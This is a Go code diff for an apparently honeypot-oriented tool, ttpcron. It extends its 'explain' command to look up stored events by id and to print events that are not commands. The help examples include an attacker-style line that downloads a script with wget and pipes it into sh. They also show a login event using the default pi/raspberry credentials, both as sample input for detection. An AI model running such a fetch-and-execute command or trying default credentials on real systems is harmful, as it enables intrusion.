@@ -5,6 +5,8 @@ import (
 	"encoding/json"
 	"fmt"
 	"io"
+	"maps"
+	"slices"
 	"strings"
 	"time"
 
@@ -13,6 +15,7 @@ import (
 	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/cli"
 	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/ruleset"
 	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/term"
+	"github.com/ttpcron/ttpcron/jobs"
 	"github.com/ttpcron/ttpcron/tagger"
 )
 
@@ -20,7 +23,7 @@ func explainCommand() *command {
 	fs := cli.NewFlags()
 	asJSON := fs.Bool("json", false, "print one JSON object")
 	tag := fs.String("tag", "", "explain the stored tag with this `UUID` instead of a command")
-	event := fs.Bool("event", false, "the argument is an event in the native JSON form, of any kind")
+	event := fs.Bool("event", false, "the argument is an event of any kind: in the native JSON form, or the id of a stored one")
 	return &command{
 		Name: "explain", Args: "COMMAND", Short: "show which rules match a command, and why", Flags: fs, Unstored: true,
 		Text: `Judges one shell command as a run would: how it is taken apart, which rules match,
@@ -30,11 +33,16 @@ one, the states of its rules are applied.
 
 --tag shows what a stored tag came of: its event, the rule and version that made
 it, which test of the rule saw what, and whether the rule as it is now would make
-it, or why not. ttpcron tags --uuid shows the UUIDs, and --json those of all tags.`,
+it, or why not. ttpcron tags --uuid shows the UUIDs, and --json those of all tags.
+
+--event judges a login, a file, a tunnel or any other event. The id of a stored
+one is its source_id, which tags --json and export-events show; the days of the
+history are searched for it, the newest first.`,
 		Examples: `ttpcron explain "cd /tmp; wget http://203.0.113.9/x.sh -O- | sh"
 echo 'cat /proc/cpuinfo' | ttpcron explain -
 ttpcron explain --tag 9aa491e5-f03b-5d8f-9eb5-161becedcdd6
-ttpcron explain --event '{"source_kind":"canary_fingerprint","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","payload":{"user_agent":"curl/8.5.0"}}'`,
+ttpcron explain --event sha256:3f1c26fb9c3e9d0a51d1a2f7f0a1c5be
+ttpcron explain --event '{"source_kind":"auth_attempt","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","payload":{"username":"pi","password":"raspberry","success":true}}'`,
 		Exits: []int{exitFailed, exitLocked, exitInterrupted},
 		Run: func(ctx context.Context, s *session, args []string) error {
 			if *tag != "" {
@@ -43,7 +51,7 @@ ttpcron explain --event '{"source_kind":"canary_fingerprint","time":"2026-05-04T
 				}
 				return explainTag(ctx, s, *tag, *asJSON)
 			}
-			e, err := eventToExplain(s.now, s.stdin, args, *event)
+			e, err := eventToExplain(ctx, s, args, *event)
 			if err != nil {
 				return err
 			}
@@ -54,21 +62,25 @@ ttpcron explain --event '{"source_kind":"canary_fingerprint","time":"2026-05-04T
 			ruleset.Warn(s.log, report)
 			x := rs.Explain(e)
 			if *asJSON {
-				return s.out.JSON(explanationOf(s.now, x, life, s.set.Attack))
+				shown := explanationOf(s.now, x, life, s.set.Attack)
+				if *event {
+					shown.Event = &e
+				}
+				return s.out.JSON(shown)
 			}
 			return explainText(s.out, x, life, s.set.Attack)
 		},
 	}
 }
 
-// eventToExplain makes an event of the arguments.
-func eventToExplain(now func() time.Time, stdin io.Reader, args []string, native bool) (ttpcron.Event, error) {
+// eventToExplain makes an event of the arguments, or finds the one that they name.
+func eventToExplain(ctx context.Context, s *session, args []string, event bool) (ttpcron.Event, error) {
 	if len(args) == 0 {
 		return ttpcron.Event{}, cli.Usage("explain needs a command", `quote it: ttpcron explain "uname -a"`)
 	}
 	text := strings.Join(args, " ")
 	if text == "-" {
-		b, err := io.ReadAll(io.LimitReader(stdin, ttpcron.MaxText+1))
+		b, err := io.ReadAll(io.LimitReader(s.stdin, ttpcron.MaxText+1))
 		if err != nil {
 			return ttpcron.Event{}, err
 		}
@@ -77,13 +89,16 @@ func eventToExplain(now func() time.Time, stdin io.Reader, args []string, native
 	if len(text) > ttpcron.MaxText {
 		return ttpcron.Event{}, fmt.Errorf("the command is longer than %d bytes", ttpcron.MaxText)
 	}
-	e := ttpcron.Event{
-		Kind: ttpcron.Command, ID: "explain", Time: now().UTC(), AttackerIP: "192.0.2.1",
-		Payload: ttpcron.TextPayload("command_text", text),
+	if !event {
+		return ttpcron.Event{
+			Kind: ttpcron.Command, ID: "explain", Time: s.now().UTC(), AttackerIP: "192.0.2.1",
+			Payload: ttpcron.TextPayload("command_text", text),
+		}, nil
 	}
-	if !native {
-		return e, nil
+	if !strings.HasPrefix(strings.TrimSpace(text), "{") {
+		return storedEvent(ctx, s, text)
 	}
+	var e ttpcron.Event
 	if err := json.Unmarshal([]byte(text), &e); err != nil {
 		return e, cli.Usagef("--event: %v", err)
 	}
@@ -94,6 +109,54 @@ func eventToExplain(now func() time.Time, stdin io.Reader, args []string, native
 		e.ID = e.ContentID()
 	}
 	return e, nil
+}
+
+// storedEvent finds an event of any kind by its id, the newest first.
+func storedEvent(ctx context.Context, s *session, id string) (ttpcron.Event, error) {
+	db, err := s.stores.Read(ctx)
+	if err != nil {
+		return ttpcron.Event{}, err
+	}
+	defer db.Close()
+	kinds, err := db.History.Kinds(ctx)
+	if err != nil {
+		return ttpcron.Event{}, err
+	}
+	days := map[ttpcron.Day][]ttpcron.SourceKind{}
+	for _, kind := range kinds {
+		for d, err := range jobs.Days(ctx, db.History, kind) {
+			if err != nil {
+				return ttpcron.Event{}, err
+			}
+			days[d.Day] = append(days[d.Day], kind)
+		}
+	}
+	for _, day := range slices.Backward(slices.Sorted(maps.Keys(days))) {
+		for _, kind := range days[day] {
+			if e, found, err := db.History.EventByID(ctx, kind, day, id); err != nil || found {
+				return e, err
+			}
+		}
+	}
+	return ttpcron.Event{}, cli.Hint(fmt.Errorf("there is no event %.200q in %s", id, db.Path()), "tags --json and export-events show the ids of events as source_id; those of pruned days are gone")
+}
+
+// eventParts prints an event that is no command: what it is, and all that it says.
+func eventParts(out *term.Output, e *ttpcron.Event) {
+	if e.Kind == ttpcron.Command && e.Seq == 0 {
+		return // it stands on the command line
+	}
+	w, t := out, out.Term
+	about := ttpcron.Tag{AttackerIP: e.AttackerIP, AttackerUUID: e.AttackerUUID, IdentityUUID: e.IdentityUUID, SessionID: e.SessionID, DeckyID: e.DeckyID, Vantage: e.Vantage}
+	fmt.Fprintf(w, "%s %s at %s%s\n", t.Paint(term.Bold, term.Clean(string(e.Kind))), term.Clean(e.SourceID()), term.Time(e.Time), origin(&about, ttpcron.MarkNone))
+	for _, f := range e.Payload {
+		value := f.Text
+		if f.Raw != nil {
+			value = string(f.Raw)
+		}
+		fmt.Fprintf(w, "  %s  %s\n", term.Clean(f.Name), t.Cut(term.Clean(value[:min(len(value), 4*2000)]), 2000))
+	}
+	fmt.Fprintln(w)
 }
 
 // textParts prints what a text was taken apart into.
@@ -124,6 +187,7 @@ func textParts(out *term.Output, x tagger.Explanation) {
 
 func explainText(out *term.Output, x tagger.Explanation, life ruleset.Life, under *attack.Table) error {
 	w := out
+	eventParts(out, &x.Event)
 	textParts(out, x)
 	for i, j := range x.Rules {
 		if i > 0 {
@@ -139,7 +203,7 @@ func explainText(out *term.Output, x tagger.Explanation, life ruleset.Life, unde
 	}
 	switch {
 	case x.Verdict.Skipped:
-		fmt.Fprintln(w, "No rule looks at such an event: it has no text.")
+		fmt.Fprintln(w, whySkipped(&x.Event))
 	case len(x.Rules) == 0:
 		fmt.Fprintln(w, "No rule matches.")
 	}
@@ -147,6 +211,14 @@ func explainText(out *term.Output, x tagger.Explanation, life ruleset.Life, unde
 		fmt.Fprintln(w, "\nA rule met a limit of work or size and did not finish.")
 	}
 	return nil
+}
+
+// whySkipped says why no rule has looked at an event.
+func whySkipped(e *ttpcron.Event) string {
+	if e.Kind == ttpcron.Command {
+		return "No rule looks at such an event: it has no text."
+	}
+	return fmt.Sprintf("No rule looks at events of the kind %s.", term.Clean(string(e.Kind)))
 }
 
 // judgement prints one rule's finding.
@@ -192,6 +264,7 @@ func underline(text string, start, end int, t term.Terminal) string {
 }
 
 type explanationJSON struct {
+	Event   *ttpcron.Event  `json:"event,omitempty"` // that was asked about by --event
 	Signals ttpcron.Payload `json:"signals"`
 	Text    term.Exact      `json:"text"`
 	Layers  []layerJSON     `json:"layers"`
